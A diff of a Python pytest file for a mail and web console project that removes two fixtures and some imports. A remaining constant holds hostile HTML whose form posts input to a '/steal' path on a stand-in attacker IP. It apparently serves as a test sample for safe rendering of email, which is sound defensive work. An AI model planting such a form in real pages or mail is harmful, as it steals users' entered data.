@@ -9,7 +9,7 @@ from email.message import EmailMessage
 import pytest
 
 from mailconduit.sink import ensure_running, list_messages
-from webconsole import Console, SignedIn, running_console, send_to_sink
+from webconsole import SignedIn, send_to_sink
 
 HOSTILE_HTML = (
     "<html><body><h1>Quarterly figures</h1>"
@@ -18,19 +18,6 @@ HOSTILE_HTML = (
     "<form action='http://203.0.113.9/steal'><input name=x></form>"
     "</body></html>"
 )
-
-
-@pytest.fixture(scope="module")
-def console() -> Iterator[Console]:
-    with running_console() as running:
-        yield running
-
-
-@pytest.fixture
-def browser(console: Console) -> Iterator[SignedIn]:
-    signed = console.signed_in()
-    yield signed
-    signed.http.close()
 
 
 @pytest.fixture
